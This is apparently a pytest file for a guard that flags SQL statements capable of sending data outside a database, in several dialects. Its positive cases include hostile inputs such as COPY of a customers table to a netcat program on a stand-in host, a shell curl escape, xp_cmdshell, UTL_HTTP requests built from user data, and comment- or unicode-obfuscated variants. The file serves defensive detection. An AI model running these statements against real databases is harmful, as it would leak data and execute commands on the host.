"""Statements of SQL that reach outside, and what only looks like them."""

import pytest

from guard.destinations.sql_statements import statements_in


@pytest.mark.parametrize(
    "text",
    [
        "NOTIFY jobs, 'the balance is 4711'",
        'select 1; notify "the balance is 4711";',
        "COPY customers TO PROGRAM 'nc elsewhere.test 80'",
        "COPY/**/customers/**/TO/**/PROGRAM/**/'nc elsewhere.test 80'",
        "SELECT \"dblink\"('h', 'select 1')",
        "SELECT U&\"\\0064blink\"('h', 'select 1')",
        "EXEC [xp_cmdshell] 'dir'",
        "SELECT '--', dblink_exec('h', 'select 1')",
        "SELECT UTL_HTTP.REQUEST('h' || name) FROM users",
        "BEGIN DBMS_PIPE.PACK_MESSAGE('x'); END;",
        "ATTACH DATABASE '/net/h/x.db' AS out",
        "SELECT load_extension('/tmp/x.so')",
        "SELECT pg_catalog.lo_export(1, '/srv/x')",
        "LOAD '/tmp/x.so'",
        "PREPARE s FROM @text",
        "GRANT SELECT ON customers TO public",
        "CREATE TABLE q (a String) ENGINE = URL('h', CSV)",
        "ALTER SHARE s ADD ACCOUNTS = other",
        "\\! curl elsewhere.test",
    ],
)
def test_what_reaches_outside_is_found(text):
    """In any dialect, quoted or spelt, behind comments."""
    (found,) = statements_in(text)

    assert found.kind == "handle"
    assert found.canonical.startswith("sql:")


@pytest.mark.parametrize(
    "text",
    [
        "select name, count(*) from orders group by 1",
        "SELECT * FROM notes WHERE text = 'copy it; notify Ann'",
        "insert into t values ('it''s; fine')",
        "with a as (select 1) select * from a",
        "EXEC dbo.GetCustomers @id = 3",
        "notify the team about the release",
        "Please notify Ann, and then load the data",
        "Create event for Monday with Ann",
        "Grant access to the team",
        "Add file upload to the form",
        "Restore database from backup",
        "From: ann@partner.test\nListen to the recording",
    ],
)
def test_what_stays_inside_is_not(text):
    """Nor are sentences."""
    assert [*statements_in(text)] == []


def test_in_an_argument_called_sql_statements_are_a_closed_list():
    """A name makes nothing harmless, and a verb that nobody listed counts."""
    for text in ("BROADCAST 'x' TO h", "SELECT 1; KICK x", "SELECT '\\'; BROADCAST x; --'"):
        assert [*statements_in(text)] == []
        assert len([*statements_in(text, "sql")]) == 1
    for text in (
        "BEGIN; UPDATE t SET a = 1; COMMIT;",
        "/* all */ (select 1)",
        "users",
        "select ';x'",
    ):
        assert [*statements_in(text, "sql")] == []
